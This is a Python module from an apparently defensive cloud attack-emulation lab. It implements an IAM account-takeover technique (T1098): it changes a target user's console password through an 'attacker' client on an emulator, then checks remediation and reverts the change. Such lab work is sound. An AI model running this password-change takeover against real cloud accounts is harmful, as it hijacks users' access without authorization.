"""iam-change-user-password: take over a user's console access by changing its password (T1098)."""

from __future__ import annotations

from pathlib import Path

from lab.attacks.base import Prerequisites
from lab.attacks.iam_user import LabUserTechnique
from lab.attacks.resources import missing_ok
from lab.attacks.techniques.iam_create_user_login_profile import has_login_profile
from lab.emulator.endpoints import Endpoints

OWNER_PASSWORD = "Lab-Owner-Password-1!"


class IamChangeUserPassword(LabUserTechnique):
    folder = Path(__file__).parent
    USER_NAME = "lab-target-console-user"

    def detonate(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        prerequisites["changed"] = True
        endpoints.client("iam", "attacker").update_login_profile(
            UserName=prerequisites["user"],
            Password="Lab-Attacker-Chosen-1!",
            PasswordResetRequired=False,
        )

    def is_remediated(self, endpoints: Endpoints, prerequisites: Prerequisites) -> bool:
        """The password is the owner's, or the attacker's one no longer opens the console (the login
        profile deleted). IAM never reads a password back, so the change is known from the attack."""
        if not prerequisites.get("changed"):
            return True
        return not has_login_profile(endpoints.client("iam", "observer"), prerequisites["user"])

    def revert(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        """The owner's password back (the login profile recreated if a responder deleted it)."""
        prerequisites["changed"] = False
        iam = endpoints.client("iam", "harness")
        with missing_ok("EntityAlreadyExists"):
            iam.create_login_profile(
                UserName=prerequisites["user"], Password=OWNER_PASSWORD, PasswordResetRequired=False
            )
            return
        iam.update_login_profile(UserName=prerequisites["user"], Password=OWNER_PASSWORD)


TECHNIQUE = IamChangeUserPassword
